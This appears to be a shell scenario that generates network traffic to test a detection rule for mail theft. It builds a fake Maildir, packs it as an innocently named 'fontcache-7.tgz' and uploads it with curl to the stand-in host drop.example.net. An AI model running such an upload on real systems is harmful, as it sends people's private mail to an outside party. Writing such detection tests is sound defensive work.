title='The wire beside an1310 fires.tar-maildir-curl'
what='A page is fetched from cdn.example.com; 12 seconds later an archive of a Maildir is uploaded by HTTP PUT to drop.example.net. The capture is moved to the time of the recorded case.'
anchor=203.0.113.66:80 at=2026-11-21T09:44:26.402Z keep='dns http fileinfo flow'
host=mx1.example.org
prepare() {
  mkdir -p "$work/Maildir/new"; echo '<p>status</p>' > "$work/www/status.html"
  for i in 1 2 3 4 5 6; do { printf 'From: host%s@example.net\nTo: buyer@example.org\nMessage-ID: <%s.lab@example.net>\n\n' $i $i; head -c 1800 /dev/urandom | base64; } > "$work/Maildir/new/$i.lab"; done
  tar -czf "$work/fontcache-7.tgz" -C "$work" Maildir
}
act() {
  in_root curl -s -o /dev/null http://cdn.example.com/status.html
  sleep 12
  in_root curl -s -T /scene/fontcache-7.tgz http://drop.example.net/in/7
}
finish() { :; }
